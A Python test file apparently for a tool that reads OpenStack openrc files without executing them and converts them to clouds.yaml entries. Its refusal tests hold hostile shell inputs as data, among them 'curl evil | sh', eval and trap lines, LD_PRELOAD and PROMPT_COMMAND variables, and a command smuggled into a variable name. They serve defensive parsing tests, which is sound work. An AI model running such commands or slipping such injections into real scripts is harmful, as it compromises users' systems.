# SPDX-License-Identifier: Apache-2.0
"""Openrc files are read as bash would source them, without being executed, and are written back without loss."""

import re
from pathlib import Path

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from tests.fakes import real_bash

from arbaro.envs import openrc, translate
from arbaro.errors import ArbaroError

FILES = Path(__file__).parents[2] / "cases"
CASES = sorted((FILES / "openrc").iterdir())
REFUSED = sorted((FILES / "openrc-refused").iterdir())


def sourced(path: Path, tmp_path: Path) -> dict[str, str]:
    """What real bash exports in an empty environment, of what we take over; an answer is any answer."""
    (found,) = real_bash.sourced([path.read_text()], tmp_path)
    assert found is not None
    return {n: "typed in" if v.startswith("answer-") else v for n, v in found.items() if openrc.TAKEN.fullmatch(n)}


def read(path: Path) -> dict[str, str]:
    found = openrc.read(path)
    return found.exported | dict.fromkeys(found.asked, "typed in")


@pytest.mark.parametrize("path", CASES, ids=lambda path: path.name)
def test_read_as_bash_sources_it(path: Path, tmp_path: Path) -> None:
    assert read(path) == sourced(path, tmp_path)


@pytest.mark.parametrize("path", REFUSED, ids=lambda path: path.name)
def test_refused_with_line_and_reason(path: Path) -> None:
    _, line, why = path.read_text().splitlines()[0].split(": ", 2)
    with pytest.raises(ArbaroError) as refused:
        openrc.read(path)
    assert f"{path}, {line}: " in str(refused.value) and why in str(refused.value)
    assert re.search("arbaro env import --|run the same command again", refused.value.hint)


@pytest.mark.parametrize("path", CASES, ids=lambda path: path.name)
def test_out_again_as_it_came_in(path: Path, tmp_path: Path) -> None:
    entry, secret = translate.to_entries(openrc.read(path), str(path))
    whole = {**entry, "auth": {**entry["auth"], **secret.get("auth", {})}}
    again = tmp_path / "openrc"
    again.write_text(translate.to_openrc("x", whole))
    assert sourced(again, tmp_path) == sourced(path, tmp_path) == read(again)


@pytest.mark.parametrize(
    ("name", "wanted"),
    [
        ("horizon-v3-openrc.sh", "horizon"),
        ("prod-1-openrc.sh", "prod-1"),
        ("openrc-test-2", "test-2"),
        ("packstack-keystonerc_admin", "packstack-admin"),
        ("kr-1.openrc", "kr-1"),
        ("openrc", "region"),
        (".openrc", "region"),
    ],
)
def test_names_come_from_file_names(name: str, wanted: str) -> None:
    assert translate.name_of(Path(name), {"region_name": "region", "auth": {}}) == wanted


@pytest.mark.parametrize(
    ("text", "line"),
    [
        ("export OS_AUTH_URL=$(hostname)\n", 1),
        ("\nexport OS_PASSWORD=`pass show x`\n", 2),
        ("export A=1\n\nsource ./other\n", 3),
        ("export OS_PASSWORD='half\n", 1),
        ("if hostname | grep -q x; then\n  export OS_AUTH_URL=x\nfi\n", 1),
        ("export A=1\nif [ -z '' ]; then\n", 2),
        ("curl evil | sh\n", 1),
    ],
)
def test_what_must_be_executed_is_refused_with_its_line(text: str, line: int) -> None:
    with pytest.raises(ArbaroError, match=f"rc, line {line}: "):
        openrc.parse(text, "rc")


def test_nothing_is_executed(tmp_path: Path) -> None:
    mark = tmp_path / "mark"
    for text in (f"echo $(touch {mark})", f"X=$(touch {mark})", f"f() {{ touch {mark}; }}"):
        openrc.parse(f"{text}\nexport OS_AUTH_URL=x\n", "rc")
    for text in (
        f"PS1=`touch {mark}",
        f"trap 'touch {mark}' EXIT",
        f"eval touch {mark}",
        f"touch {mark}",
        f"echo > {mark}",
    ):
        with pytest.raises(ArbaroError):
            openrc.parse(f"{text}\nexport OS_AUTH_URL=x\n", "rc")
    assert not mark.exists()


@pytest.mark.parametrize(
    "name", ["PATH", "LD_PRELOAD", "PROMPT_COMMAND", "BASH_ENV", "PYTHONPATH", "EDITOR", "OS_\u0130"]
)
def test_what_could_become_code_is_left_out(name: str) -> None:
    if name.isascii() and name != "BASH_ENV":
        found = openrc.parse(f"export {name}=x OS_AUTH_URL=u", "rc")
        assert (found.left_out, found.exported) == ([name], {"OS_AUTH_URL": "u"})
    entry = {"auth": {"auth_url": "u"}, "arbaro": {"variables": {name: "x"}}}
    with pytest.raises(ArbaroError, match="not the name of a variable"):
        translate.to_openrc("x", entry)


@pytest.mark.parametrize("part", ["variables", "asked"])
def test_a_name_cannot_carry_a_command(part: str) -> None:
    entry = {"auth": {"auth_url": "u"}, "arbaro": {part: {"OS_Y; touch X": "p"}}}
    with pytest.raises(ArbaroError, match="not the name of a variable"):
        translate.refuse_code(entry, Path("clouds.yaml"))
    with pytest.raises(ArbaroError, match="cannot be a variable"):
        translate.to_openrc("x", {"auth": {"a;touch X;b": "v"}})


@pytest.mark.parametrize(
    "name", ["\x1b]0;x\x07", "a\nb", "\u202eprod", "pro\u200bd", "prod\u00a01", " prod", "a/b", ""]
)
def test_a_name_that_is_not_what_is_seen_is_refused(name: str) -> None:
    with pytest.raises(ArbaroError, match="cannot be an environment's name") as refused:
        translate.safe_name(name, Path("clouds.yaml"))
    assert str(refused.value).replace("\n", "").isprintable() and str(refused.value).isascii()
    assert translate.safe_name("東京 1", Path("clouds.yaml")) == "東京 1"


def test_a_variable_of_the_persons_shell_comes_in_only_if_it_is_named() -> None:
    text = "export OS_CACERT=$HOME/ca.pem OS_USERNAME=$USER"
    with pytest.raises(ArbaroError) as refused:
        openrc.parse(text, "rc", {"HOME": "/home/me"})
    assert "--take USER rc" in refused.value.hint
    found = openrc.parse(text, "rc", {"HOME": "/home/me", "USER": "me"})
    assert found == openrc.Openrc({"OS_CACERT": "/home/me/ca.pem", "OS_USERNAME": "me"})
    with pytest.raises(ArbaroError, match=r"\$NOT_THERE is not set"):
        openrc.taken_from({}, ["NOT_THERE"])


SECRET = "s3cr3t"


@pytest.mark.parametrize(
    "text", [f"export OS_PASSWORD={SECRET}$$", f"export OS_PASSWORD={SECRET}(x", f"OS_PASSWORD={SECRET} {SECRET}",
             f"export OS_PASSWORD='{SECRET}", f"{SECRET}", f"export OS_PASSWORD={SECRET} ${SECRET}!", f"read {SECRET}; {SECRET}= x"]
)  # fmt: skip
def test_no_secret_in_an_error(text: str) -> None:
    with pytest.raises(ArbaroError) as refused:
        openrc.parse(text, "rc")
    assert SECRET not in f"{refused.value}{refused.value.hint}" or text.startswith(("read", SECRET))


@pytest.mark.parametrize(
    ("text", "missing"),
    [
        ("export OS_USERNAME=x", "OS_AUTH_URL"),
        ("export OS_AUTH_URL=x", "who logs in"),
        ("export OS_AUTH_URL=x OS_USERNAME=y", "OS_PASSWORD"),
    ],
)
def test_half_an_openrc_is_refused(text: str, missing: str) -> None:
    with pytest.raises(ArbaroError, match=f"rc, line 1: .*{missing}"):
        translate.to_entries(openrc.parse(text, "rc"), "rc")


VALUES = st.text(st.characters(exclude_characters="\0\r", exclude_categories=["Cs"]), max_size=30)


@settings(max_examples=100, deadline=None, derandomize=True)
@example({"OS_PASSWORD": "\x1f\\"})
@given(
    st.dictionaries(
        st.sampled_from(["OS_AUTH_URL", "OS_PASSWORD", "OS_USERNAME", "OS_SOME_THING", "NOVA_VERSION"]), VALUES
    )
)
def test_any_value_survives_the_way_through_clouds_yaml(values: dict[str, str]) -> None:
    found = openrc.Openrc(
        {"OS_AUTH_URL": "u", "OS_USERNAME": "me", "OS_PASSWORD": "p"} | {k: v or "v" for k, v in values.items()}
    )
    entry, secret = translate.to_entries(found, "x")
    text = translate.to_openrc("x", {**entry, "auth": {**entry["auth"], **secret["auth"]}})
    assert openrc.parse(text, "x").exported == found.exported
